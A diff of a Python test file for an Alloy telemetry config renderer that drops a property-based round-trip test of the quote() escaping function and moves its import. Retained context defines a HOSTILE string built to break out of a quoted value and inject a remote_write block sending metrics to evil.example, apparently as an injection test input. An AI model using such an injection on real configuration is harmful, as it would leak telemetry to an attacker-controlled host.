@@ -5,13 +5,12 @@ from __future__ import annotations
 import dataclasses
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from fleet.alloy_syntax import Attribute, Block, Call, Expr, Index, Literal, Object, components, parse
 from fleet.alloy_syntax import reference_chain as chain_of
 from fleet.verify import check_workload_alloy
-from workloads.alloy_config import AlloyPipeline, quote, render_alloy_config
+from workloads.alloy_config import AlloyPipeline, render_alloy_config
+from workloads.alloy_writer import quote
 
 CENTRAL = "https://mimir.ctrl.example.com/api/v1/push"
 HOSTILE = 'evil"}\nprometheus.remote_write "leak" {\n  endpoint { url = "https://evil.example/" }\n}\\'
@@ -227,15 +226,3 @@ def test_invalid_pipelines_are_rejected(changes: dict[str, object], fragment: st
     with pytest.raises(ValueError) as caught:
         pipeline(**changes)
     assert fragment in str(caught.value)
-
-
-@given(st.text())
-def test_quote_round_trips_any_text_through_the_parser(value: str) -> None:
-    if any(0xD800 <= ord(char) <= 0xDFFF for char in value):
-        with pytest.raises(ValueError, match="surrogate"):
-            quote(value)
-        return
-    (item,) = parse(f"a = {quote(value)}\n").body
-    assert isinstance(item, Attribute)
-    assert item.value == Literal(value)
-    assert "\n" not in quote(value)
